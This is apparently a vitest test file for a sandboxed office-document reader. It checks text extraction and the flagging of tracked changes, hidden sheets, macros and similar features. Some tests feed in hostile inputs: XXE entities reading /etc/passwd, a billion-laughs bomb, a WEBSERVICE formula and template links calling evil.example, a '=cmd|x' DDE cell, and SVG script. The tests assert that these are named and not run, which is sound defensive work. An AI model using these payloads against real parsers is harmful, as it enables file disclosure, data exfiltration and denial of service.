import { readFileSync } from 'node:fs'
import { utils, write } from '@e965/xlsx'
import mammoth from 'mammoth'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { joinPages, type WallSession } from '#reading'
import { plainText } from '../../../../tools/eval/text-distance.ts'
import { concat, utf8 } from '../../../../tools/samples/bytes.ts'
import { makeDocx, makeXlsx, paragraph } from '../../../../tools/samples/office.ts'
import { makePng } from '../../../../tools/samples/pictures.ts'
import { makeZip } from '../../../../tools/samples/zip.ts'
import { codes, finding, openReader, outcome, read, textOf } from './behind-wall.ts'

let session: WallSession
beforeAll(async () => {
  session = await openReader()
})
afterAll(() => session.close())

const specimen = (name: string): Uint8Array =>
  new Uint8Array(readFileSync(new URL(`../specimens/libreoffice/${name}`, import.meta.url)))
const source = (name: string): string =>
  readFileSync(new URL(`../specimens/chromium/${name}.txt`, import.meta.url), 'utf8')

describe('office files made by LibreOffice, against their source', () => {
  it.each([
    ['prose-naskh', 'docx'],
    ['prose-naskh', 'odt'],
    ['prose-naskh', 'rtf'],
    ['mixed', 'docx'],
    ['mixed', 'odt'],
    ['mixed', 'rtf'],
    ['vowelled', 'docx'],
    ['table', 'docx'],
    ['table', 'odt'],
    ['table', 'rtf'],
    ['table', 'xlsx'],
    ['table', 'ods'],
    ['prose-naskh', 'doc'],
    ['mixed', 'doc'],
    ['table', 'xls'],
  ])('%s.%s: character for character', async (name, kind) => {
    const { reading } = await read(session, specimen(`${name}.${kind}`), { name: `${name}.${kind}` })
    expect(reading.kind).toBe(kind)
    expect(outcome(reading)).toBe('read')
    expect(plainText(reading.pages.map((page) => (page.how === 'unread' ? '' : page.text)).join('\n'))).toBe(
      plainText(source(name)),
    )
    expect(codes(reading)).not.toContain('kind-unlike-name')
  })

  it('agree with mammoth on what a Word document says', async () => {
    for (const name of ['prose-naskh', 'mixed', 'table']) {
      const bytes = specimen(`${name}.docx`)
      const { value } = await mammoth.extractRawText({ buffer: Buffer.from(bytes) })
      expect(plainText(textOf((await read(session, bytes)).reading) ?? '')).toBe(plainText(value))
    }
  })
})

describe('a Word document', () => {
  it('A21: what it would fetch is named and not fetched', async () => {
    const { reading } = await read(
      session,
      makeDocx({
        body: paragraph('text'),
        relations: [
          { type: 'attachedTemplate', target: 'http://evil.example/t.dotm', external: true },
          { type: 'image', target: 'http://evil.example/i.png', external: true },
          { type: 'hyperlink', target: 'file:///etc/passwd', external: true },
          { type: 'oleObject', target: '\\\\evil.example\\share', external: true },
        ],
      }),
    )
    expect(codes(reading)).toEqual(['external-link', 'external-template', 'inert-link', 'remote-resource'])
    expect(finding(reading, 'external-template')?.params.target).toBe('http://evil.example/t.dotm')
  })

  it.each([
    ['an outside entity', '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'],
    ['a billion laughs', '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;">]>'],
  ])('A22: with %s is unread for its document type', async (_, prolog) => {
    const { reading } = await read(session, makeDocx({ prolog, body: paragraph('text &a;') }))
    expect(outcome(reading)).toBe('unread(dtd)')
    expect(reading.pages).toEqual([])
  })

  it('A23: tracked changes, comments, hidden text and the preview are told, each with its place', async () => {
    const body = [
      paragraph('First paragraph.'),
      '<w:p><w:r><w:t xml:space="preserve">It cost </w:t></w:r><w:del w:author="Editor" w:date="2020-01-02T03:04:05Z"><w:r><w:delText>nine</w:delText></w:r></w:del><w:ins w:author="Editor" w:date="2020-01-02T03:04:05Z"><w:r><w:t>five</w:t></w:r></w:ins><w:r><w:t xml:space="preserve"> thousand.</w:t></w:r></w:p>',
      '<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>Ask Hoda.</w:t></w:r><w:r><w:t>Shown.</w:t></w:r></w:p>',
    ].join('')
    const { reading, children } = await read(
      session,
      makeDocx({
        body,
        comments: `<w:comment w:author="Lawyer" w:date="2020-02-02T00:00:00Z">${paragraph('Can we say this?')}</w:comment>`,
        core: '<dc:creator>Somebody</dc:creator><cp:lastModifiedBy>Another</cp:lastModifiedBy>',
        more: [{ name: 'docProps/thumbnail.png', data: makePng(4, 4) }],
      }),
    )
    const text = textOf(reading)!
    expect(text).toBe('First paragraph.\nIt cost five thousand.\nShown.')
    const inserted = finding(reading, 'tracked-insertion')
    expect(inserted?.params).toMatchObject({ author: 'Editor', text: 'five' })
    expect(text.slice(inserted?.place?.start, inserted?.place?.end)).toBe('five')
    expect(finding(reading, 'tracked-deletion')?.params).toMatchObject({ author: 'Editor', text: 'nine' })
    expect(textOf(reading, 'deleted')).toBe('nine')
    expect(textOf(reading, 'hidden')).toBe('Ask Hoda.')
    expect(textOf(reading, 'comments')).toBe('Can we say this?')
    // None of it is taken for what the document says.
    expect(joinPages(reading).text).toBe(text)
    expect(joinPages(reading, { asides: true }).text).toContain('Ask Hoda.')
    expect(finding(reading, 'comment')?.params).toMatchObject({ author: 'Lawyer' })
    expect(reading.meta).toContainEqual({ name: 'cp:lastModifiedBy', value: 'Another' })
    expect(children.map(({ child }) => child.role)).toEqual(['thumbnail'])
  })

  it('a text box that is stored twice is read once', async () => {
    const box = (text: string): string => `<w:txbxContent>${paragraph(text)}</w:txbxContent>`
    const { reading } = await read(
      session,
      makeDocx({
        body: `<w:p><w:r><mc:AlternateContent><mc:Choice>${box('In the box')}</mc:Choice><mc:Fallback>${box('In the box')}</mc:Fallback></mc:AlternateContent></w:r></w:p>`,
      }),
    )
    expect(textOf(reading)?.match(/In the box/g)).toHaveLength(1)
  })

  it('macros and embedded files are named, and the files handed out', async () => {
    const { reading, children } = await read(
      session,
      makeDocx({
        body: paragraph('x'),
        more: [
          { name: 'word/vbaProject.bin', data: 'vba' },
          { name: 'word/embeddings/oleObject1.bin', data: 'inside' },
        ],
      }),
    )
    expect(codes(reading)).toEqual(['embedded-object', 'macro'])
    expect(children.map(({ child }) => child.role)).toEqual(['object'])
  })

  it('A8: one that unfolds without end is stopped by a limit', async () => {
    const { reading } = await read(session, makeDocx({ body: paragraph(' '.repeat(120 * 1024 * 1024)) }))
    expect(outcome(reading)).toBe('unread(over-limit)')
  })

  it('without its main part is damaged, not empty', async () => {
    expect(
      outcome(
        (
          await read(
            session,
            makeZip([
              { name: '[Content_Types].xml', data: '<Types/>' },
              { name: 'word/x.xml', data: '<a/>' },
            ]),
          )
        ).reading,
      ),
    ).toBe('unread(damaged)')
  })
})

describe('a spreadsheet', () => {
  it('A24: hidden sheets are pages and named; formulas that would fetch are named and not calculated', async () => {
    const { reading } = await read(
      session,
      makeXlsx(
        [
          {
            name: 'Shown',
            rows: '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="C1"><v>42</v></c></row><row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://evil.example/"&amp;A1)</f><v>old</v></c></row>',
          },
          {
            name: 'Payments',
            state: 'veryHidden',
            rows: '<row r="1"><c r="A1" t="inlineStr"><is><t>سرّي</t></is></c></row>',
          },
        ],
        ['=cmd|x'],
      ),
    )
    expect(textOf(reading, 'Shown')).toBe('=cmd|x\t\t42\nold')
    expect(textOf(reading, 'Payments')).toBe('سرّي')
    expect(finding(reading, 'hidden-sheet')).toMatchObject({ params: { name: 'Payments' }, place: { page: 2 } })
    expect(finding(reading, 'formula-calls-out')?.params.formula).toContain('WEBSERVICE')
  })

  it('dates come out as dates, by the format of their cell', async () => {
    const styles =
      '<numFmts><numFmt numFmtId="170" formatCode="dd/mm/yyyy hh:mm"/></numFmts><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="170"/></cellXfs>'
    const rows =
      '<row r="1"><c r="A1" s="0"><v>43831</v></c><c r="B1" s="1"><v>43831</v></c><c r="C1" s="2"><v>43831.5</v></c><c r="D1" s="1"><v>59</v></c></row>'
    const { reading } = await read(session, makeXlsx([{ name: 'S', rows }], [], styles))
    expect(textOf(reading, 'S')).toBe('43831\t2020-01-01\t2020-01-01T12:00:00\t1900-02-28')
  })

  it('a cell that claims a column beyond every sheet makes no row of a million cells', async () => {
    const { reading } = await read(
      session,
      makeXlsx([{ name: 'S', rows: '<row r="1"><c r="ZZZZZZ1"><v>1</v></c><c r="XFD2"><v>2</v></c></row>' }]),
    )
    expect(textOf(reading, 'S')!.replace(/\t+/, '\t')).toBe('1\t2')
  })
})

describe('RTF', () => {
  it('reads letters in the code page of their font, by number, and as Unicode', async () => {
    const rtf =
      "{\\rtf1\\ansi\\ansicpg1252{\\fonttbl{\\f0 Arial;}{\\f1\\fcharset178 Arabic;}}\\f1 \\'c7\\'e1\\'e3\\'ed\\'e4\\'c7\\'c1\\f0  caf\\'e9 \\u1605?\\u1610?\\par{\\*\\generator Hidden}}"
    expect(textOf((await read(session, rtf)).reading)).toBe('الميناء café مي')
  })

  it('keeps deleted, hidden and commented text apart', async () => {
    const { reading } = await read(session, '{\\rtf1 shown {\\v hidden}{\\deleted gone}{\\*\\annotation remark} end}')
    expect(textOf(reading)).toBe('shown  end')
    expect(textOf(reading, 'hidden')).toBe('hidden')
    expect(textOf(reading, 'deleted')).toBe('gone')
    expect(textOf(reading, 'comments')).toBe('remark')
  })

  it('cut off in its middle is partial; nested ten thousand deep it ends', async () => {
    expect(outcome((await read(session, '{\\rtf1 {\\b cut')).reading)).toBe('partial(damaged)')
    expect((await read(session, `{\\rtf1 ${'{'.repeat(20_000)}x`)).reading.state).toBe('partial')
  })
})

describe('office files of other kinds', () => {
  it('A25: an old binary document is named by its streams; one that is nothing else is unread', async () => {
    const entry = (name: string): Uint8Array => {
      const block = new Uint8Array(128)
      for (let i = 0; i < name.length; i += 1) block[2 * i] = name.charCodeAt(i)
      block[64] = 2 * name.length + 2
      block[66] = 2
      return block
    }
    const ole = (name: string): Uint8Array =>
      concat(Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1), new Uint8Array(504), entry(name))
    const doc = await read(session, ole('WordDocument'))
    expect([doc.reading.kind, outcome(doc.reading)]).toEqual(['doc', 'unread(damaged)'])
    expect(outcome((await read(session, ole('PowerPoint Document'))).reading)).toBe('unread(unsupported)')
    const macro = await read(session, concat(ole('WordDocument'), entry('Macros')))
    expect(codes(macro.reading)).toEqual(['macro'])
    expect(outcome((await read(session, ole('EncryptedPackage'))).reading)).toBe('unread(password)')
  })

  it('A24: old workbooks have their hidden sheets named and their dates as dates', async () => {
    const book = utils.book_new()
    const shown = utils.aoa_to_sheet(
      [
        ['الاسم', 'التاريخ'],
        ['هدى', new Date(Date.UTC(2020, 0, 31))],
      ],
      { cellDates: true, UTC: true },
    )
    utils.book_append_sheet(book, shown, 'Shown')
    utils.book_append_sheet(book, utils.aoa_to_sheet([['سرّي', 42]]), 'Payments')
    utils.book_set_sheet_visibility(book, 'Payments', 2)
    const bytes = new Uint8Array(write(book, { type: 'array', bookType: 'biff8', cellDates: true }) as ArrayBuffer)
    const { reading } = await read(session, bytes, { name: 'old.xls' })
    expect(reading.kind).toBe('xls')
    expect(textOf(reading, 'Shown')).toBe('الاسم\tالتاريخ\nهدى\t2020-01-31')
    expect(textOf(reading, 'Payments')).toBe('سرّي\t42')
    expect(finding(reading, 'hidden-sheet')).toMatchObject({ params: { name: 'Payments' }, place: { page: 2 } })
  })

  it('slides are pages in their order, hidden ones and notes named', async () => {
    const slide = (text: string, show = ''): string =>
      `<p:sld xmlns:p="p" xmlns:a="a"${show}><p:sp><a:p><a:r><a:t>${text}</a:t></a:r></a:p></p:sp></p:sld>`
    const bytes = makeZip([
      { name: '[Content_Types].xml', data: '<Types/>' },
      {
        name: 'ppt/presentation.xml',
        data: '<p:presentation xmlns:p="p" xmlns:r="r"><p:sldIdLst><p:sldId r:id="b"/><p:sldId r:id="a"/></p:sldIdLst></p:presentation>',
      },
      {
        name: 'ppt/_rels/presentation.xml.rels',
        data: '<Relationships><Relationship Id="a" Type="x/slide" Target="slides/slide1.xml"/><Relationship Id="b" Type="x/slide" Target="slides/slide2.xml"/></Relationships>',
      },
      { name: 'ppt/slides/slide1.xml', data: slide('الأولى', ' show="0"') },
      { name: 'ppt/slides/slide2.xml', data: slide('الثانية') },
      { name: 'ppt/notesSlides/notesSlide1.xml', data: slide('قل هذا بهدوء') },
    ])
    const { reading } = await read(session, bytes)
    expect(reading.kind).toBe('pptx')
    expect(reading.pages.map((page) => (page.how === 'unread' ? '' : page.text))).toEqual([
      'الثانية',
      'الأولى',
      'قل هذا بهدوء',
    ])
    expect(codes(reading)).toEqual(['hidden-slide', 'speaker-notes'])
  })

  it('A26: words in a drawing are read; its script and what it would fetch are named; a document type stops it', async () => {
    const { reading } = await read(
      session,
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><script>alert(1)</script><image xlink:href="http://evil.example/a.png"/><text>كلام</text></svg>',
    )
    expect(outcome(reading)).toBe('partial(no-text-engine)')
    expect(textOf(reading)).toBe('كلام')
    expect(codes(reading)).toEqual(['active-content', 'remote-resource'])
    const xxe = await read(
      session,
      utf8(
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
      ),
    )
    expect(outcome(xxe.reading)).toBe('unread(dtd)')
  })
})
